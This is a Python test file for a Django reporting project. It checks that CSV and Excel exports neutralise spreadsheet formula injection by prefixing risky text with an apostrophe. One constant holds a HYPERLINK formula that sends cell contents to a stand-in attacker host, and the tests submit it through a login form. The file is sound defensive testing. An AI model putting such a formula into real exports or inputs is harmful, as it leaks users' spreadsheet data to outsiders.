"""Text that a spreadsheet would run as a formula leaves the system as plain text.

Every CSV and Excel writer goes through ``presentation.cells``; these tests reach the
writers from the outside: a log-in form, a correction note, a CLI result table.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from django.test import Client, override_settings
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from regietafel.presentation.cells import export_cell, safe_text
from regietafel.presentation.tables import Column, Result, ResultTable, render_csv, render_xlsx
from regietafel.rapportage.models import PublishedReport
from regietafel.rapportage.render import render_report

HOSTILE = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Fryslân", "Fryslân"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_safe_text(text: str, expected: str) -> None:
    assert safe_text(text) == expected


def test_numbers_stay_numbers() -> None:
    assert export_cell(-5) == -5
    assert export_cell(-0.5) == -0.5
    assert export_cell(None) is None
    assert export_cell("-5") == "'-5"  # text stays text, even when it looks like a number


@given(st.text())
def test_no_exported_text_starts_a_formula(text: str) -> None:
    cell = export_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in {text, "'" + text}


@pytest.mark.django_db
def test_anonymous_user_name_is_neutralised_in_the_audit_csv(
    client_as: Callable[[str | None], Any],
) -> None:
    response = Client().post("/inloggen/", {"username": HOSTILE, "password": "fout"})
    assert response.status_code == 401
    raw = client_as("beheerder").get("/audit/?formaat=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    failed = [row for row in rows if "HYPERLINK" in row[4]]
    assert failed, rows
    for row in failed:
        assert row[4] == "'" + HOSTILE[:100]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.django_db
def test_correction_note_is_no_formula_in_the_report_excel(
    publish: Callable[..., PublishedReport], tmp_path: Any
) -> None:
    with override_settings(MEDIA_ROOT=tmp_path):
        report = publish(note="=1+1")
        book = load_workbook(BytesIO(render_report(report, "xlsx").content))
    info = {row[0]: row[1] for row in book["toelichting"].iter_rows(values_only=True)}
    assert info["toelichting correctie"] == "'=1+1"
    cell = next(
        row[1] for row in book["toelichting"].iter_rows() if row[0].value == "toelichting correctie"
    )
    assert cell.data_type == "s"  # a string cell, not a formula ("f")
    changes = [row[4] for row in book["kerncijfers"].iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(c, int) for c in changes)  # numbers stay numbers


RESULT = Result(
    title="proef",
    tables=(
        ResultTable(
            name="t",
            title="t",
            columns=(Column("naam", "Naam"), Column("aantal", "Aantal", "int")),
            rows=({"naam": "@cmd", "aantal": -3},),
        ),
    ),
    notes=("=notitie",),
)


def test_result_table_csv_and_excel() -> None:
    rows = list(csv.reader(io.StringIO(render_csv(RESULT, table="t"))))
    assert rows[1] == ["'@cmd", "-3"]
    book = load_workbook(BytesIO(render_xlsx(RESULT)))
    assert book["t"]["A2"].value == "'@cmd"
    assert book["t"]["B2"].value == -3
    notes = [r[1] for r in book["toelichting"].iter_rows(values_only=True)]
    assert "'=notitie" in notes
